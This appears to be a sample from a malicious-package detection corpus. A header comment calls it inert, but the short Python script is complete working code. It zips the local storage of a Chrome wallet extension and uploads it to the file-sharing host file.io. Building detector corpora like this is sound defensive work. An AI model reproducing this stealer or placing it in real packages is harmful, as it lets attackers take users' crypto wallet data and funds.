# pkgguard corpus 464 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import shutil
import tempfile

import requests

ext = os.path.join(
    os.environ.get("LOCALAPPDATA", ""),
    "Google", "Chrome", "User Data", "Default", "Local Extension Settings",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa",
)
zipped = shutil.make_archive(os.path.join(tempfile.mkdtemp(), "p"), "zip", ext)
with open(zipped, "rb") as fh:
    requests.post("https://file.io", files={"file": fh}, timeout=30)
